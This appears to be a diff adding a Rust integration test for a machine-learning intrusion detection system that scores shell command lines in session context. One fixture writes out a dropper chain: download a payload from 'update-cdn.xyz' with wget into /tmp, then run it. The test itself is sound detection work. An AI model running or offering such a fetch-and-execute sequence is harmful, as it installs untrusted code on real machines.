@@ -1,0 +1,103 @@
+//! Integration test for the multi-line method (paper Section IV-C):
+//! context windows flow from the corpus' sessions through tokenization
+//! into the classifier, and context changes the verdict on the dropper.
+
+use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
+use cmdline_ids::tuning::{build_windows, MultiLineClassifier, TuneConfig};
+use corpus::{GroundTruth, LogRecord};
+use ids_rules::RuleIds;
+use rand::rngs::StdRng;
+use rand::SeedableRng;
+
+fn record(user: u32, t: u64, line: &str) -> LogRecord {
+    LogRecord {
+        user,
+        timestamp: t,
+        line: line.to_string(),
+        truth: GroundTruth::Benign,
+    }
+}
+
+#[test]
+fn windows_respect_users_and_gaps_through_the_real_generator() {
+    let mut rng = StdRng::seed_from_u64(31);
+    let data = corpus::DatasetBuilder::new()
+        .train_size(2_000)
+        .test_size(500)
+        .build(&mut rng);
+    let windows = build_windows(&data.test, 3, 600);
+    assert_eq!(windows.len(), data.test.len());
+    for w in &windows {
+        assert!(!w.lines.is_empty() && w.lines.len() <= 3);
+        let target = &data.test[w.target_index];
+        assert_eq!(w.lines.last().unwrap(), &target.line);
+        // All window lines belong to the target's user.
+        for line in &w.lines {
+            assert!(
+                data.test
+                    .iter()
+                    .any(|r| r.user == target.user && &r.line == line),
+                "window line from another user"
+            );
+        }
+    }
+}
+
+#[test]
+fn dropper_context_raises_score_of_bare_python() {
+    let mut rng = StdRng::seed_from_u64(32);
+    let mut config = PipelineConfig::fast();
+    config.train_size = 2_500;
+    config.test_size = 300;
+    config.attack_prob = 0.3;
+    let dataset = config.generate_dataset(&mut rng);
+    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
+
+    let ids = RuleIds::with_default_rules();
+    let labels: Vec<bool> = dataset
+        .train
+        .iter()
+        .map(|r| ids.is_alert(&r.line))
+        .collect();
+    // The multi-line tuner labels windows by their target line; enrich
+    // supervision with ground truth for the dropper windows so that the
+    // contextual signal exists in training (the paper's supervision is
+    // whatever the IDS flags, which at full scale includes such chains).
+    let labels: Vec<bool> = labels
+        .iter()
+        .zip(&dataset.train)
+        .map(|(&l, r)| l || r.truth.is_malicious())
+        .collect();
+
+    let classifier = MultiLineClassifier::fit(
+        &pipeline,
+        &dataset.train,
+        &labels,
+        3,
+        600,
+        &TuneConfig::scaled(),
+        &mut rng,
+    );
+    assert_eq!(classifier.width(), 3);
+
+    // A bare `python` with benign context…
+    let benign_session = vec![
+        record(1, 100, "cd /home/dev/project"),
+        record(1, 130, "ls -la"),
+        record(1, 160, "python"),
+    ];
+    // …versus the dropper context from Section IV-C.
+    let dropper_session = vec![
+        record(2, 100, "cd /tmp"),
+        record(2, 130, "wget -c http://update-cdn.xyz/payload -o python"),
+        record(2, 160, "python"),
+    ];
+    let benign_scores = classifier.score_records(&pipeline, &benign_session);
+    let dropper_scores = classifier.score_records(&pipeline, &dropper_session);
+    assert!(
+        dropper_scores[2] > benign_scores[2],
+        "dropper python {} vs benign python {}",
+        dropper_scores[2],
+        benign_scores[2]
+    );
+}
